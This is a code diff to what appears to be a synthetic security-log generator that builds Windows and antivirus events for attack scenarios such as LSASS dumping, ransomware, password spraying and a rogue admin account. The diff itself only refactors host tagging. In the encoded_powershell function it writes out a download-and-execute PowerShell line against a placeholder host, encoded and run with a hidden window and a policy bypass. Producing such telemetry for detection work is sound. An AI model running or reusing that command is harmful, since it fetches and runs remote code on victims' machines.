@@ -44,7 +44,8 @@ def macro_attachment(plot: Plot) -> None:
     if (stream := plot.find("windows", also="antivirus")) is None:
         return
     host, at = plot.host(stream.site), plot.office_hours()
-    plot.about(f"host:{host.name}", f"user:{host.user}")
+    plot.about_host(host)
+    plot.about(f"user:{host.user}")
     document = f"C:\\Users\\{host.user}\\Downloads\\Giay moi hop khan.docm"
     line = windows.process_sysmon(
         plot.stamps,
@@ -64,7 +65,8 @@ def encoded_powershell(plot: Plot) -> None:
     if (stream := plot.find("windows", also="antivirus")) is None:
         return
     host, at = plot.host(stream.site), plot.office_hours()
-    plot.about(f"host:{host.name}", f"user:{host.user}")
+    plot.about_host(host)
+    plot.about(f"user:{host.user}")
     script = "IEX (New-Object Net.WebClient).DownloadString('http://tai-ve.giay-moi.example/a.ps1')"
     encoded = base64.b64encode(script.encode("utf-16-le")).decode()
     command = f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded}"
@@ -106,7 +108,8 @@ def lsass_dump(plot: Plot) -> None:
     if (stream := plot.find("windows", also="antivirus")) is None:
         return
     host, at = plot.host(stream.site), plot.office_hours()
-    plot.about(f"host:{host.name}", f"user:{host.user}")
+    plot.about_host(host)
+    plot.about(f"user:{host.user}")
     tool = "C:\\Windows\\Temp\\pd64.exe"
     line = windows.process_sysmon(
         plot.stamps,
@@ -147,10 +150,11 @@ def remote_service(plot: Plot) -> None:
         return
     site = stream.site
     origin, at = plot.host(site), plot.office_hours()
-    plot.about(f"host:{origin.name}", f"ip:{origin.address}")
+    plot.about_host(origin)
+    plot.about(f"ip:{origin.address}")
     others = [host for host in site.hosts if host != origin] or [origin]
     for host in plot.rng.sample(others, min(4, len(others))):
-        plot.about(f"host:{host.name}")
+        plot.about_host(host)
         logon = windows.logon(
             plot.stamps,
             at,
@@ -173,7 +177,7 @@ def log_cleared(plot: Plot) -> None:
     if (stream := plot.find("windows", also="antivirus")) is None:
         return
     host, at = plot.host(stream.site), plot.office_hours()
-    plot.about(f"host:{host.name}")
+    plot.about_host(host)
     plot.put(stream, at, windows.log_cleared(plot.stamps, at, host.computer, user="Administrator"))
 
 
@@ -183,7 +187,7 @@ def ransomware(plot: Plot) -> None:
         return
     site = stream.site
     host, at = plot.host(site), plot.office_hours()
-    plot.about(f"host:{host.name}")
+    plot.about_host(host)
     locker = "C:\\ProgramData\\svc\\locker.exe"
     line = windows.process_sysmon(
         plot.stamps,
@@ -226,7 +230,8 @@ def new_administrator(plot: Plot) -> None:
     if (stream := plot.find("windows")) is None:
         return
     host, at = plot.host(stream.site), plot.night(23.0)
-    plot.about(f"host:{host.name}", "user:support_388945")
+    plot.about_host(host)
+    plot.about("user:support_388945")
     line = windows.account_created(plot.stamps, at, host.computer, user="support_388945", by="Administrator")
     plot.put(stream, at, line)
     at += 4 * SECOND
@@ -239,7 +244,7 @@ def protection_off(plot: Plot) -> None:
         return
     at = plot.office_hours()
     for host in plot.rng.sample(stream.site.hosts, min(3, len(stream.site.hosts))):
-        plot.about(f"host:{host.name}")
+        plot.about_host(host)
         plot.put(stream, at, windows.protection_off(plot.stamps, at, host.computer))
         at += plot.rng.randrange(30, 300) * SECOND
 
@@ -254,7 +259,7 @@ def usb_worm(plot: Plot) -> None:
     plot.about("malware:VBS.ShortcutLan.Worm")
     hosts = plot.rng.sample(site.hosts, min(22, len(site.hosts)))
     for n, host in enumerate(hosts):
-        plot.about(f"host:{host.name}")
+        plot.about_host(host)
         row = _detected(
             site,
             host,
@@ -273,7 +278,8 @@ def infostealer(plot: Plot) -> None:
     if (stream := plot.find("antivirus", _EXPORTS)) is None:
         return
     host, at = plot.host(stream.site), plot.office_hours()
-    plot.about(f"host:{host.name}", f"user:{host.user}", "malware:MSIL.PassGrab.Spyware")
+    plot.about_host(host)
+    plot.about(f"user:{host.user}", "malware:MSIL.PassGrab.Spyware")
     for n in range(5):
         row = _detected(
             stream.site,
@@ -294,7 +300,8 @@ def password_spraying(plot: Plot) -> None:
         return
     site, at = stream.site, plot.night(5.0)
     origin = plot.host(site)
-    plot.about(f"host:{origin.name}", f"ip:{origin.address}")
+    plot.about_host(origin)
+    plot.about(f"ip:{origin.address}")
     for user in sorted({host.user for host in site.hosts})[:40]:
         line = windows.logon(
             plot.stamps,
